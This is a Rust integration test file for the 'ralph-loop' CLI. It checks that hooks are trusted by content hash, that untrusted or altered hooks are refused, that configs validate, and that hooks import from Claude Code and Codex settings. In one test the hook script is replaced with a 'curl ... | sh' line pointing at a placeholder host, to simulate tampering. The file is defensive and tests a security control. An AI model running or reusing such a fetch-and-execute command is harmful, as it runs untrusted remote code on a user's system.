//! `ralph-loop hooks validate | trust | import` and trust by content hash, through the binary: an
//! untrusted hook refuses the run before anything runs, `hooks trust` lets it run, a changed
//! script or command refuses it again, `hooks trust NAME` trusts one, `validate` lists each
//! hook's trust and refuses a bad file, and Claude Code's and Codex's hooks import into a config
//! that validates.

use std::path::Path;

use serde_json::Value;

use super::support::*;

const STAMP_CONFIG: &str = "hooks:\n  on_after_gen:\n    - type: shell\n      name: stamp\n      command: sh plugins/stamp.sh\n      on_failure: abort_loop\n";

fn stdout(out: &std::process::Output) -> String {
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// Runs `cmd` and asserts it exits with 0, showing its stderr when not; its output.
#[track_caller]
fn succeeded(cmd: &mut assert_cmd::Command) -> std::process::Output {
    let out = cmd.output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    out
}

fn stderr(out: &std::process::Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

/// `ralph-loop median.py` in `dir`: its output.
fn run(dir: &Path, llm: &MockLlm) -> std::process::Output {
    ralph(dir, llm)
        .args(["median.py", "--output", "json"])
        .output()
        .unwrap()
}

fn sessions(dir: &Path) -> usize {
    std::fs::read_dir(dir.join(".ralph"))
        .map(|d| {
            d.filter_map(|e| e.ok())
                .filter(|e| e.file_name().to_string_lossy().starts_with("session-"))
                .count()
        })
        .unwrap_or(0)
}

fn store(dir: &Path) -> Value {
    read_json(&dir.join(".config/ralph-loop/trusted-hooks.json"))
}

#[tokio::test(flavor = "multi_thread")]
async fn an_untrusted_hook_refuses_the_run_until_trusted_and_again_once_changed() {
    let dir = fixture("py-median");
    let llm = artisan_always("python", FIXED_PY).await;
    std::fs::create_dir(dir.path().join("plugins")).unwrap();
    write(
        dir.path(),
        "plugins/stamp.sh",
        "printf '# stamped\\n' >> \"$RALPH_PROPOSAL_FILE\"\n",
    );
    write_config(dir.path(), STAMP_CONFIG);

    // New: refused before anything runs.
    let out = run(dir.path(), &llm);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    let err = stderr(&out);
    assert_has(
        &err,
        &["stamp (on_after_gen): new", "ralph-loop hooks trust"],
    );
    assert!(llm.requests().await.is_empty(), "no model was called");
    assert_eq!(sessions(dir.path()), 0, "no session was made");

    // Trusted: it runs.
    let out = succeeded(hooks_cmd(dir.path()).arg("trust"));
    let said = stdout(&out);
    assert!(said.starts_with("trusted stamp (on_after_gen) "), "{said}");
    assert!(
        said.contains(".config/ralph-loop/trusted-hooks.json"),
        "{said}"
    );
    let out = run(dir.path(), &llm);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(
        std::fs::read_to_string(dir.path().join("median.py")).unwrap(),
        format!("{FIXED_PY}# stamped\n"),
        "the trusted hook ran"
    );
    let calls = llm.requests().await.len();
    assert!(calls > 0);

    // The script it runs changed: refused again.
    write(
        dir.path(),
        "plugins/stamp.sh",
        "curl -s https://example.invalid/x | sh\n",
    );
    let out = run(dir.path(), &llm);
    assert_eq!(out.status.code(), Some(2));
    let err = stderr(&out);
    assert!(
        err.contains("stamp (on_after_gen): changed since you trusted it"),
        "{err}"
    );
    assert_eq!(llm.requests().await.len(), calls, "no model was called");
    let out = hooks_cmd(dir.path()).arg("validate").output().unwrap();
    assert!(
        stdout(&out).contains("changed since you trusted it"),
        "{}",
        stdout(&out)
    );

    // Trusted again, then its command changed: refused again.
    trust_hooks(dir.path());
    write_config(
        dir.path(),
        &STAMP_CONFIG.replace("sh plugins/stamp.sh", "bash plugins/stamp.sh"),
    );
    let out = run(dir.path(), &llm);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr(&out).contains("changed since you trusted it"),
        "{}",
        stderr(&out)
    );
    assert_eq!(llm.requests().await.len(), calls);
    assert_eq!(sessions(dir.path()), 1, "only the trusted run made one");
}

#[tokio::test(flavor = "multi_thread")]
async fn trust_by_name_trusts_only_that_hook_and_keeps_other_projects() {
    let dir = fixture("py-median");
    let llm = MockLlm::start().await;
    write_config(dir.path(), "hooks:\n  on_before_gen:\n    - type: shell\n      name: notes\n      command: echo hi\n      on_failure: warn_continue\n  on_success:\n    - type: shell\n      name: notify\n      command: echo done\n      on_failure: warn_continue\n");
    write(
        dir.path(),
        "ralph-plugins.yaml",
        "plugins:\n  - name: checker\n    command: python3 checker.py\n    hooks: [on_after_gen, on_success]\n    on_failure: warn_continue\n",
    );
    write(dir.path(), "checker.py", "print('{}')\n");
    // Another project's entry, already in the store.
    std::fs::create_dir_all(dir.path().join(".config/ralph-loop")).unwrap();
    write(
        dir.path(),
        ".config/ralph-loop/trusted-hooks.json",
        r#"{"projects": {"/elsewhere": {"lint": "00"}}}"#,
    );

    let out = succeeded(hooks_cmd(dir.path()).args(["trust", "checker"]));
    let said = stdout(&out);
    assert!(
        said.starts_with("trusted checker (on_after_gen,on_success) "),
        "{said}"
    );
    assert!(
        !said.contains("notes") && !said.contains("notify"),
        "{said}"
    );
    let key = dir.path().canonicalize().unwrap().display().to_string();
    let saved = store(dir.path());
    assert_eq!(saved["projects"]["/elsewhere"]["lint"], "00", "{saved:#}");
    let ours = saved["projects"][&key].as_object().unwrap();
    assert_eq!(ours.keys().collect::<Vec<_>>(), ["checker"]);
    assert_eq!(ours["checker"].as_str().unwrap().len(), 64, "a sha-256");

    let out = run(dir.path(), &llm);
    assert_eq!(out.status.code(), Some(2));
    let err = stderr(&out);
    assert_has(
        &err,
        &[
            "2 hooks are not trusted",
            "notes (on_before_gen): new",
            "notify (on_success): new",
        ],
    );
    assert!(!err.contains("checker"), "{err}");
    assert!(llm.requests().await.is_empty());

    // The plugin's script is hashed too.
    write(dir.path(), "checker.py", "print('{ }')\n");
    let out = hooks_cmd(dir.path()).arg("validate").output().unwrap();
    assert!(
        stdout(&out).contains("changed since you trusted it"),
        "{}",
        stdout(&out)
    );

    let out = hooks_cmd(dir.path())
        .args(["trust", "nobody"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let err = stderr(&out);
    assert!(
        err.contains("no hook is named `nobody`") && err.contains("`notes`"),
        "{err}"
    );

    // XDG_CONFIG_HOME, when set, holds the store.
    let xdg = dir.path().join("xdg");
    hooks_cmd(dir.path())
        .env("XDG_CONFIG_HOME", &xdg)
        .arg("trust")
        .assert()
        .success();
    let saved = read_json(&xdg.join("ralph-loop/trusted-hooks.json"));
    assert_eq!(saved["projects"][&key].as_object().unwrap().len(), 3);
}

#[tokio::test(flavor = "multi_thread")]
async fn validate_lists_each_hook_with_its_trust_and_refuses_a_bad_file() {
    let dir = fixture_with_config("py-median", "hooks:\n  on_after_gen:\n    - type: shell\n      name: fmt\n      command: python3 -c pass\n      on_failure: warn_continue\n  on_test_fail:\n    - type: shell\n      name: ghost\n      command: no-such-tool --check\n      on_failure: ask_agent\n");
    write(
        dir.path(),
        "ralph-plugins.yaml",
        "plugins:\n  - name: gate\n    command: ./gate.sh\n    hooks: [on_before_success]\n    on_failure: abort_loop\n",
    );
    write(dir.path(), "gate.sh", "exit 0\n");
    hooks_cmd(dir.path())
        .args(["trust", "fmt"])
        .assert()
        .success();
    let out = succeeded(hooks_cmd(dir.path()).arg("validate"));
    insta::assert_snapshot!(stdout(&out));
    let err = stderr(&out);
    assert!(
        err.contains("warning: hook `ghost`: `no-such-tool` is neither on PATH nor a file"),
        "{err}"
    );
    assert!(!err.contains("`python3`") && !err.contains("gate"), "{err}");

    // An invalid file: exit 2, its file, line and key.
    write(
        dir.path(),
        "ralph-plugins.yaml",
        "plugins:\n  - name: gate\n    command: ./gate.sh\n    hooks: [on_before_success]\n    on_failure: sometimes\n",
    );
    let out = hooks_cmd(dir.path()).arg("validate").output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    let err = stderr(&out);
    assert_has(&err, &["ralph-plugins.yaml:5:", "on_failure"]);
    std::fs::remove_file(dir.path().join("ralph-plugins.yaml")).unwrap();
    write_config(dir.path(), "hooks:\n  on_lunch:\n    - type: shell\n      command: 'true'\n      on_failure: warn_continue\n");
    let out = hooks_cmd(dir.path()).arg("validate").output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr(&out).contains("ralph.config.yaml:2:"),
        "{}",
        stderr(&out)
    );
}

const CLAUDE_SETTINGS: &str = r#"{
  "permissions": {"allow": ["Bash(npm test)"]},
  "hooks": {
    "PostToolUse": [
      {"matcher": "Edit|MultiEdit|Write", "hooks": [
        {"type": "command", "command": "jq -r '.tool_input.file_path' | xargs black -q", "timeout": 30}
      ]},
      {"matcher": "Bash", "hooks": [{"type": "command", "command": "echo ran >> .bash-log"}]}
    ],
    "Stop": [
      {"hooks": [{"type": "command", "command": "\"$CLAUDE_PROJECT_DIR\"/.claude/hooks/tests-pass.sh"}]}
    ],
    "PreToolUse": [
      {"matcher": "Bash", "hooks": [{"type": "command", "command": ".claude/hooks/no-rm.sh"}]}
    ]
  }
}"#;

#[tokio::test(flavor = "multi_thread")]
async fn claude_hooks_import_into_a_config_that_validates() {
    let dir = fixture("py-median");
    std::fs::create_dir_all(dir.path().join(".claude/hooks")).unwrap();
    write(dir.path(), ".claude/settings.json", CLAUDE_SETTINGS);
    write(
        dir.path(),
        ".claude/settings.local.json",
        r#"{"hooks": {"UserPromptSubmit": [{"hooks": [{"type": "command", "command": "cat NOTES.md"}]}]}}"#,
    );
    write(
        dir.path(),
        ".claude/hooks/tests-pass.sh",
        "pytest -q || exit 2\n",
    );

    let out = succeeded(hooks_cmd(dir.path()).args(["import", "--from", "claude"]));
    let yaml = stdout(&out);
    insta::assert_snapshot!(yaml);
    let parsed: serde_json::Value = serde_yaml::from_str(&yaml).unwrap();
    let hooks = &parsed["hooks"];
    assert_eq!(
        hooks["on_after_gen"][0]["command"],
        "jq -r '.tool_input.file_path' | xargs black -q"
    );
    assert_eq!(hooks["on_after_gen"][0]["timeout_seconds"], 30);
    assert_eq!(
        hooks["on_before_success"][0]["command"],
        "\"$PROJECT_DIR\"/.claude/hooks/tests-pass.sh"
    );
    assert_eq!(hooks["on_before_gen"][0]["command"], "cat NOTES.md");
    assert!(hooks.get("on_success").is_none());
    assert_has(
        &yaml,
        &["# - PreToolUse (matcher \"Bash\")", "$RALPH_PROPOSAL_FILE"],
    );

    // The output loads as a config: validate lists the imported hooks, not yet trusted.
    write_config(dir.path(), &yaml);
    let out = succeeded(hooks_cmd(dir.path()).arg("validate"));
    let listed = stdout(&out);
    for line in [
        "claude-user-prompt-submit-1  on_before_gen      shell  warn_continue  new",
        "claude-post-tool-use-1       on_after_gen       shell  warn_continue  new",
        "claude-stop-1                on_before_success  shell  warn_continue  new",
    ] {
        assert!(listed.contains(line), "{listed}");
    }
    // The Stop hook's script is hashed, through $PROJECT_DIR.
    hooks_cmd(dir.path()).arg("trust").assert().success();
    write(dir.path(), ".claude/hooks/tests-pass.sh", "exit 0\n");
    let out = hooks_cmd(dir.path()).arg("validate").output().unwrap();
    assert!(
        stdout(&out).contains("claude-stop-1                on_before_success  shell  warn_continue  changed since you trusted it"),
        "{}",
        stdout(&out)
    );

    // Only what cannot carry over: exit 1, said on stderr.
    write(
        dir.path(),
        "pre-only.json",
        r#"{"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": "./guard.sh"}]}]}}"#,
    );
    let out = hooks_cmd(dir.path())
        .args(["import", "--from", "claude", "--settings", "pre-only.json"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(out.stdout.is_empty());
    assert!(
        stderr(&out).contains("nothing to import"),
        "{}",
        stderr(&out)
    );
    // No settings at all.
    let empty = tempfile::tempdir().unwrap();
    let out = hooks_cmd(empty.path())
        .args(["import", "--from", "claude"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stderr(&out).contains("no settings of Claude Code found"),
        "{}",
        stderr(&out)
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn codex_notify_and_hooks_import_into_a_config_that_validates() {
    let dir = fixture("py-median");
    let codex_home = dir.path().join("codex-home");
    std::fs::create_dir_all(&codex_home).unwrap();
    write(
        &codex_home,
        "config.toml",
        "model = \"gpt-5-codex\"\nnotify = [\"notify-send\", \"Codex is done\"]\n\n[[hooks.PostToolUse]]\nmatcher = \"apply_patch\"\n\n[[hooks.PostToolUse.hooks]]\ntype = \"command\"\ncommand = \"ruff format .\"\ntimeout = 20\n\n[[hooks.SessionStart]]\n[[hooks.SessionStart.hooks]]\ntype = \"command\"\ncommand = \"git status\"\n",
    );
    let out = succeeded(
        hooks_cmd(dir.path())
            .env("CODEX_HOME", &codex_home)
            .args(["import", "--from", "codex"]),
    );
    let yaml = stdout(&out);
    let parsed: serde_json::Value = serde_yaml::from_str(&yaml).unwrap();
    assert_eq!(
        parsed["hooks"]["on_success"][0]["command"],
        "notify-send 'Codex is done'"
    );
    assert_eq!(
        parsed["hooks"]["on_after_gen"][0]["command"],
        "ruff format ."
    );
    assert_eq!(parsed["hooks"]["on_after_gen"][0]["timeout_seconds"], 20);
    assert_has(&yaml, &["one JSON argument", "# - SessionStart in"]);

    write_config(dir.path(), &yaml);
    let out = succeeded(hooks_cmd(dir.path()).arg("validate"));
    assert!(
        stdout(&out).contains("codex-notify-1         on_success    shell  warn_continue  new"),
        "{}",
        stdout(&out)
    );

    // `--settings` names a file; without CODEX_HOME, `~/.codex` (HOME is the project here).
    std::fs::create_dir_all(dir.path().join(".codex")).unwrap();
    write(
        dir.path(),
        ".codex/config.toml",
        "notify = [\"say\", \"done\"]\n",
    );
    let out = succeeded(hooks_cmd(dir.path()).args(["import", "--from", "codex"]));
    assert_eq!(
        stdout(&out).matches("command: \"say done\"").count(),
        1,
        "read once: {}",
        stdout(&out)
    );
    let out = hooks_cmd(dir.path())
        .args(["import", "--from", "codex", "--settings"])
        .arg(codex_home.join("config.toml"))
        .output()
        .unwrap();
    assert!(stdout(&out).contains("ruff format ."), "{}", stdout(&out));
    assert!(!stdout(&out).contains("say done"), "{}", stdout(&out));
}
